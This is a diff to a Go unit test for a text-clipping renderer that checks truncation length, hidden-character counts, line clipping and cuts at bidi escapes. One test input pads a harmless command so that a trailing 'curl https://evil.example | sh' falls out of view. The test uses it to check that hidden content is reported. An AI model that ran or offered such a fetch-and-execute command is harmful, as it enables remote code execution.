@@ -70,22 +70,25 @@ func TestBlockCollapsesBlankLines(t *testing.T) {
 func TestClipSaysWhatItHid(t *testing.T) {
 	t.Parallel()
 	in := "cat notes.txt" + strings.Repeat(" x", 40) + "; curl https://evil.example | sh"
-	c := render.Clip(in, false, 60, 1)
+	c := render.Clip(render.Line(in), 60, 1)
 	if !c.Cut() || utf8.RuneCountInString(c.Text) > 60 || strings.Contains(c.Text, "curl") {
 		t.Fatalf("Clip = %+v: want at most 60 characters, cut before the tail", c)
 	}
-	if c.HiddenChars != utf8.RuneCountInString(in)-utf8.RuneCountInString(c.Text) || c.TotalBytes != len(in) {
+	if c.HiddenChars != utf8.RuneCountInString(in)-utf8.RuneCountInString(c.Text) || c.TotalChars != utf8.RuneCountInString(in) {
 		t.Errorf("Clip = %+v: hidden and total do not add up", c)
 	}
 	if n := c.Notice(); !strings.Contains(n, "more characters hidden") {
 		t.Errorf("Notice = %q", n)
 	}
 	// Never inside an escape.
-	c = render.Clip("ab\u202ecd", false, 5, 1)
-	if c.Text != "ab" || c.HiddenChars != 3 {
-		t.Errorf("Clip(bidi at the cut) = %+v, want \"ab\" and 3 hidden", c)
+	c = render.Clip(render.Line("ab\u202ecd"), 5, 1)
+	if c.Text != "ab" || c.HiddenChars != 10 {
+		t.Errorf("Clip(bidi at the cut) = %+v, want \"ab\" and the escape and cd hidden", c)
 	}
-	if c := render.Clip("short", false, 60, 1); c.Cut() || c.Notice() != "" || c.Text != "short" {
+	if c := render.Clip(render.Block("1\n2\n3\n4"), 100, 2); c.Text != "1\n2" || c.HiddenLines != 2 {
+		t.Errorf("Clip(4 lines to 2) = %+v", c)
+	}
+	if c := render.Clip("short", 60, 1); c.Cut() || c.Notice() != "" || c.Text != "short" {
 		t.Errorf("Clip(short) = %+v", c)
 	}
 }
